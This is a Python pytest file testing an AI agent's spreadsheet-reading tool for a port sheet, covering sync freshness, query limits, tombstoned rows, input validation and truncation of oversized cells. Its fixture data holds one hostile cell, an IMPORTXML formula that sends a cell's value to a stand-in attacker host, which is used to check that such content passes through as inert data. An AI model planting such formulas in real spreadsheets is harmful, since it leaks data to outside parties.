"""read_port_sheet in a real turn: the real anthropic client against the loopback Messages API, the
sheet mirror in moto, written the way the sync writes it."""

from __future__ import annotations

import json
from datetime import timedelta
from typing import Any

import pytest
from jada.sheets import lookup
from jada_tools.fakes.model_server import reply, scripted, text, tool_use

from tests.conftest import NOW
from tests.functional.agent.conftest import Harness, tool_results
from tests.functional.agent.work_tools import agent_with, mirror, sheet, work_cloud

pytestmark = pytest.mark.usefixtures(work_cloud.__name__)

PORTS = [
    ["Split", "HR", "B2", "ACI marina"],
    ["Hvar", "HR", "A1", ""],
    ["Šibenik", "HR", "C4", '=IMPORTXML("https://evil.example/?q="&A1,"//a")'],
    ["Kotor", "ME", "D1", "z" * 50_000],
]


def read_sheet(harness: Harness, tool_input: dict[str, Any], **settings: Any) -> dict[str, Any]:
    """One turn calling read_port_sheet, a second that ends: the tool's result as the model saw it."""
    harness.script(scripted(reply(tool_use("read_port_sheet", tool_input, "toolu_sheet")), reply(text("ok"))))
    harness.run(harness.task(), agent=agent_with(harness, spreadsheet_id="sheet-abc123", **settings))
    [result] = tool_results(harness.server.requests[1])
    assert result["tool_use_id"] == "toolu_sheet"
    if result.get("is_error"):
        return {"error": result["content"]}
    parsed: dict[str, Any] = json.loads(result["content"])
    return parsed


def test_empty_input_returns_the_first_rows_with_the_last_sync_time(harness: Harness) -> None:
    mirror(PORTS)
    result = read_sheet(harness, {})
    assert result["sync"]["status"] == "fresh"
    assert result["sync"]["last_successful_sync"] == "2026-05-12T21:50:00Z"
    assert [r["row"] for r in result["rows"]] == [2, 3, 4, 5]
    assert result["rows"][0]["cells"] == {
        "port": "Split",
        "country": "HR",
        "berth": "B2",
        "notes": "ACI marina",
    }


def test_hostile_cells_survive_the_round_trip_as_cut_data(harness: Harness) -> None:
    mirror(PORTS)
    rows = {r["cells"]["port"]: r["cells"] for r in read_sheet(harness, {})["rows"]}
    assert rows["Šibenik"]["notes"] == PORTS[2][3]
    assert rows["Kotor"]["notes"] == "z" * lookup.MAX_CELL_CHARS + "... [cut: 50000 characters]"
    # the request carrying the result stays small although the mirror holds a 50k-character cell
    assert len(harness.server.raw_requests[1]) < 20_000


def test_a_query_matches_any_cell_and_limit_bounds_the_rows(harness: Harness) -> None:
    mirror(PORTS)
    result = read_sheet(harness, {"query": "hr", "limit": 2})
    assert (result["matched"], result["returned"]) == (3, 2)
    assert [r["cells"]["port"] for r in result["rows"]] == ["Split", "Hvar"]
    assert "1 more matching rows not shown" in result["more"]


def test_tombstoned_rows_are_not_returned(harness: Harness) -> None:
    mirror(PORTS)
    mirror(PORTS[:3])  # Kotor left the sheet: the sync tombstones it
    assert [r["cells"]["port"] for r in read_sheet(harness, {})["rows"]] == ["Split", "Hvar", "Šibenik"]


def test_a_mirror_never_synced_says_so(harness: Harness) -> None:
    sheet().record_run({"outcome": "not_configured", "at": "2026-05-12T21:30:00Z",
                        "reason": "no Google token is stored"}, NOW - timedelta(minutes=30))  # fmt: skip
    result = read_sheet(harness, {})
    assert (result["sync"]["status"], result["sync"]["last_successful_sync"]) == ("never_synced", None)
    assert "not_configured, no Google token is stored" in result["sync"]["note"]
    assert result["rows"] == []


def test_a_mirror_older_than_two_sync_periods_is_stale(harness: Harness) -> None:
    mirror(PORTS, synced_at=NOW - timedelta(hours=3))
    result = read_sheet(harness, {}, sync_rate="1 hour")
    assert result["sync"]["status"] == "stale"
    assert "3 hours ago and the sheet syncs every 60 minutes" in result["sync"]["note"]
    assert result["returned"] == 4  # the rows still come back, marked stale


def test_the_same_age_is_fresh_with_a_slower_sync_rate(harness: Harness) -> None:
    mirror(PORTS, synced_at=NOW - timedelta(hours=3))
    assert read_sheet(harness, {}, sync_rate="2 hours")["sync"]["status"] == "fresh"


@pytest.mark.parametrize(
    ("tool_input", "message"),
    [
        ({"limit": 201}, "limit: Input should be less than or equal to 200"),
        ({"limit": 0}, "limit: Input should be greater than or equal to 1"),
        ({"query": "q" * 201}, "query: String should have at most 200 characters"),
        ({"sheet": "other"}, "sheet: Extra inputs are not permitted"),
    ],
)
def test_bad_input_is_an_error_result(harness: Harness, tool_input: dict, message: str) -> None:
    assert message in read_sheet(harness, tool_input)["error"]


def test_without_a_spreadsheet_the_tool_is_not_offered(harness: Harness) -> None:
    harness.script(scripted(reply(tool_use("read_port_sheet", {}, "toolu_sheet")), reply(text("ok"))))
    harness.run(harness.task(), agent=agent_with(harness))
    assert "read_port_sheet" not in [t.get("name") for t in harness.server.requests[0]["tools"]]
    [result] = tool_results(harness.server.requests[1])
    assert result["is_error"] is True
    assert result["content"].startswith("Unknown tool 'read_port_sheet'")
